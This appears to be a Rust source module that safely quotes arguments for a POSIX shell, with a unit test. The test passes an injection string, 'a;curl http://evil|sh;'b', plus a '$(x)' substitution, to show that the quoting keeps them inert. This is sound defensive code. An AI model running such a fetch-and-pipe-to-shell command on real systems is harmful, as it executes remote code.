//! Words of a POSIX shell: the one place that quotes them.

/// A command on one line: every word is a single word to the shell, whatever is in it.
///
/// A word that begins with `-` is an option to most programs; whoever takes one from outside puts `--` before it.
pub(crate) fn line<'w>(words: impl IntoIterator<Item = &'w str>) -> String {
    let mut line = String::new();
    for word in words {
        push_word(&mut line, word);
    }
    line
}

/// Appends a blank, where something stands before it, and `word` as one word.
pub(super) fn push_word(line: &mut String, word: &str) {
    if !line.is_empty() {
        line.push(' ');
    }
    quote(line, word);
}

/// Appends `value` as one word, or as the rest of one.
///
/// Within single quotes nothing but the single quote itself is special, a newline neither. A NUL cannot be part of
/// any argument; the replacement character shows where one was.
pub(super) fn quote(line: &mut String, value: &str) {
    let plain = |c: char| c.is_ascii_alphanumeric() || "_-./:=,+%@".contains(c);
    if !value.is_empty() && value.chars().all(plain) {
        line.push_str(value);
        return;
    }
    line.push('\'');
    for letter in value.chars() {
        match letter {
            '\'' => line.push_str("'\\''"),
            '\0' => line.push(char::REPLACEMENT_CHARACTER),
            other => line.push(other),
        }
    }
    line.push('\'');
}

#[cfg(test)]
mod tests {
    use super::line;

    #[test]
    fn a_word_stays_one_word() {
        assert_eq!(line(["rm", "--", "/var/lib/waagent/x"]), "rm -- /var/lib/waagent/x");
        assert_eq!(
            line(["rm", "a;curl http://evil|sh;'b", "", "$(x)"]),
            "rm 'a;curl http://evil|sh;'\\''b' '' '$(x)'"
        );
    }
}
